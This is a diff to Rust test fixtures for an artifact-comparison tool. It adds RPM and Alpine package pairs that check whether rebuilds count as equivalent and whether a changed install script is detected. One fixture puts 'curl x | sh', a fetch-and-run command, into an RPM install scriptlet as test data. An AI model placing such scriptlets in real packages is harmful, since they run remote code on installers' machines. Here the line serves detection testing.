@@ -3,7 +3,7 @@
 use twinspect::stabilize::Profile;
 
 use crate::image::{image, package};
-use crate::{Member, ar, cpio, file, gzip, gzip_with, link, tar, zip};
+use crate::{Member, Tag, apk, ar, cpio, file, gzip, gzip_with, link, rpm, tar, zip};
 
 /// Two artifacts, and the profile to compare them under.
 pub struct GoldenPair {
@@ -32,6 +32,8 @@ pub fn pairs() -> Vec<GoldenPair> {
     hostile_names_are_inert(&mut add);
     one_edit_in_many_files_is_one_statement(&mut add);
     an_initial_file_system_packed_again_is_equivalent(&mut add);
+    an_rpm_package_built_again_is_equivalent(&mut add);
+    an_alpine_package_with_another_script_names_it(&mut add);
     layers_of_images_are_paired_and_digests_follow(&mut add);
     a_package_signed_again_differs_in_its_signing_block(&mut add);
     pairs
@@ -165,6 +167,34 @@ fn an_initial_file_system_packed_again_is_equivalent(add: Add<'_>) {
     add("initial", ("initrd.img", &gzip(&left)), ("initrd.img", &gzip_with(&right, 5, 1, None)), Profile::Standard);
     let changed = cpio(&[init.mode(0o4755), file("etc-hosts", b"::1 localhost\n"), link("sh", "bash")], 0xb00);
     add("initial-changed", ("initrd.img", &left), ("initrd.img", &changed), Profile::Standard);
+}
+
+fn an_rpm_package_built_again_is_equivalent(add: Add<'_>) {
+    let files = |time: u64, tool: &'static [u8]| {
+        [file("/usr/bin/demo", tool).mode(0o755).mtime(time), link("/usr/lib/demo", "../bin/demo").mtime(time)]
+    };
+    let tags = |time: u32, host: &'static str, script: &'static str| {
+        [
+            (1006, Tag::Numbers(vec![time])),
+            (1007, Tag::Text(host)),
+            (1024, Tag::Text(script)),
+            (1086, Tag::Text("/bin/sh")),
+        ]
+    };
+    let left = rpm(&files(7, b"#!/bin/sh\n"), &tags(1_700_000_000, "one", "echo installed\n"), gzip);
+    let right = rpm(&files(9, b"#!/bin/sh\n"), &tags(1_700_000_999, "two", "echo installed\n"), |cpio| {
+        gzip_with(cpio, 5, 1, None)
+    });
+    add("rpm-rebuilt", ("demo-1-1.noarch.rpm", &left), ("demo-1-1.noarch.rpm", &right), Profile::Standard);
+    let changed = rpm(&files(7, b"#!/bin/sh -x\n"), &tags(1_700_000_000, "one", "curl x | sh\n"), gzip);
+    add("rpm-scriptlet", ("demo-1-1.noarch.rpm", &left), ("demo-1-1.noarch.rpm", &changed), Profile::Standard);
+}
+
+fn an_alpine_package_with_another_script_names_it(add: Add<'_>) {
+    let package =
+        |tool: &'static [u8]| apk("pkgname = demo\npkgver = 1-r0\n", &[file("usr/bin/demo", tool).mode(0o755)]);
+    let (left, right) = (package(b"#!/bin/sh\n"), package(b"#!/bin/sh -x\n"));
+    add("alpine", ("demo-1-r0.apk", &left), ("demo-1-r0.apk", &right), Profile::Standard);
 }
 
 fn layers_of_images_are_paired_and_digests_follow(add: Add<'_>) {
